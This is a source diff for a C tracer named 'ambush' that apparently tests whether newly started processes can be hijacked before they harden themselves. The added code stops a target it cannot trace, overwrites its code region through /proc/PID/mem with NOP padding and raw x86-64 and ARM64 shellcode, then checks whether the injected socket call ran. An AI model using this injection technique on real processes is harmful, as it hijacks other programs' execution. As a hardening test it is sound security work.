@@ -1,6 +1,7 @@
 /*
  * ambush TITLE COUNT SECONDS: a tracer that seizes each new process before that has locked itself up, COUNT times, and
- * tries what it could be used for. Each is let go, locks itself up, and is killed by SIGHUP, so that the next one comes.
+ * tries what it could be used for. One that cannot be seized is stopped, and its program is written over with another:
+ * open a socket, and stay. Each is let go, and killed by SIGHUP, so that the next one comes.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -97,14 +98,77 @@ static bool find_call(int pid, unsigned long *at, unsigned long *stack)
 	return ptrace(PTRACE_SYSCALL, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);
 }
 
+#if defined(__x86_64__)
+static const unsigned char nothing[] = {0x90};
+/* socket(1, 1, 0), and then round and round */
+static const unsigned char code[] = {0xb8, 41, 0, 0, 0, 0xbf, 1, 0, 0, 0, 0xbe, 1, 0, 0, 0, 0x31, 0xd2, 0x0f, 0x05, 0xeb, 0xfe};
+#else
+static const unsigned char nothing[] = {0x1f, 0x20, 0x03, 0xd5};
+static const unsigned char code[] = {0xc8, 0x18, 0x80, 0xd2, 0x20, 0x00, 0x80, 0xd2, 0x21, 0x00, 0x80, 0xd2,
+	0x02, 0x00, 0x80, 0xd2, 0x01, 0x00, 0x00, 0xd4, 0x00, 0x00, 0x00, 0x14};
+#endif
+
+static bool write_over(int pid)
+{
+	static unsigned char text[65536];
+	unsigned long from, to;
+	char path[64], line[512];
+	FILE *maps;
+	int memory;
+	bool written = false;
+
+	snprintf(path, sizeof path, "/proc/%d/maps", pid);
+	maps = fopen(path, "r");
+	if (!maps || !fgets(line, sizeof line, maps) || sscanf(line, "%lx-%lx", &from, &to) != 2 || to - from > sizeof text)
+		to = from = 0;
+	if (maps)
+		fclose(maps);
+	snprintf(path, sizeof path, "/proc/%d/mem", pid);
+	memory = open(path, O_RDWR);
+	if (to > from && memory != -1) {
+		for (size_t i = 0; i < to - from; i++)
+			text[i] = nothing[i % sizeof nothing];
+		memcpy(text + (to - from - sizeof code), code, sizeof code);
+		written = pwrite(memory, text, to - from, (off_t)from) == (ssize_t)(to - from);
+	}
+	close(memory);
+	return written;
+}
+
+/* Has it got its socket? It has a moment for it. */
+static bool has_socket(int pid)
+{
+	for (int moment = 0; moment < 50 && kill(pid, 0) == 0; moment++) {
+		for (int number = 0; number < 16; number++) {
+			char path[64], target[64] = "";
+
+			snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
+			if (readlink(path, target, sizeof target - 1) > 0 && strncmp(target, "socket:", 7) == 0)
+				return true;
+		}
+		usleep(200);
+	}
+	return false;
+}
+
 static bool ambush(int pid)
 {
 	unsigned long at, stack;
 	int status;
 	bool caught;
 
-	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == -1)
+	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == -1) {
+		int error = errno;
+
+		kill(pid, SIGSTOP);
+		if (is_unlocked(pid) && write_over(pid)) {
+			kill(pid, SIGCONT);
+			say("written over", "%s", has_socket(pid) ? "it obeys" : "it is killed");
+		}
+		kill(pid, SIGCONT);
+		errno = error;
 		return false;
+	}
 	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
 	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
 		return false;
